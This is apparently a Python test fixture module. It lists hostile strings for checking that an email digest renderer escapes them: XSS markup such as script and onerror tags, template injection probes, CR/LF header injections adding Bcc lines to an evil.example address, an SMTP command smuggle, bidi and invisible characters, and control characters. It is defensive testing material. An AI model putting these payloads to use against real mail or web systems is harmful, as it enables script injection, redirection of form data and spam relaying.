"""Hostile strings a name, title, subject or meeting title may carry (issue 10).

Markup and script, header injection (CR/LF, encoded words, Unicode line
breaks), invisible and bidi characters, control characters and sheer length.
test_render.py pushes every one through every text field of a digest; the
count is quoted in docs/RELIABILITY.md.
"""

from __future__ import annotations

MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=p></form>",
    "<!--",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7*7 }}",
    "{% raw %}{{ config }}{% endraw %}",
    "${7*7}",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]

HEADERS = [
    "Eve\r\nBcc: victim@evil.example",
    "Eve\nBcc: victim@evil.example",
    "Eve\rBcc: victim@evil.example",
    "Eve\r\n\r\n<html>body injected</html>",
    "Eve\u2028Bcc: victim@evil.example",
    "Eve\u2029Bcc: victim@evil.example",
    "Eve\u0085Bcc: victim@evil.example",
    "Eve\x0bBcc: victim@evil.example",
    "Eve\x0cBcc: victim@evil.example",
    "=?utf-8?q?E=0ABcc:_x@evil.example?=",
    "=?utf-8?b?RXZlDQpCY2M6IHhAZXZpbC5leGFtcGxl?=",
    "Eve%0d%0aBcc:%20x@evil.example",
    "Eve\r\nContent-Type: text/html",
    "Eve\r\nX-Peerpulse-Period: 1999-W01",
    "Eve\r\n.\r\nMAIL FROM:<x@evil.example>",
]

INVISIBLE = [
    "Al\u200bice",
    "Al\u200cice",
    "Al\u200dice",
    "Al\u2060ice",
    "Al\u061cice",
    "Al\u180eice",
    "Al\ufeffice",
    "Eve\u202eevil",
    "Eve\u202aevil\u202c",
    "Eve\u202bevil\u202c",
    "Eve\u202devil\u202c",
    "Eve\u2066evil\u2069",
    "Eve\u2067evil\u2069",
    "Eve\u2068evil\u2069",
    "\u200b\u200c\u200d\u2060\u061c\u180e\ufeff",
]

CONTROL = [
    "Eve\x00null",
    "Eve\x1b[31mred\x1b[0m",
    "Eve\x07bell",
    "Eve\x08\x08\x08Bob",
    "Eve\x7fdel",
    "Eve\x9bcsi",
    "Eve\U0001f600 emoji",
]

LENGTH = [
    "A" * 10_000,
    "<img src=x onerror=alert(1)>" + "A" * 10_000,
    "\u200b" * 5_000 + "Eve",
]

PAYLOADS = [*MARKUP, *HEADERS, *INVISIBLE, *CONTROL, *LENGTH]
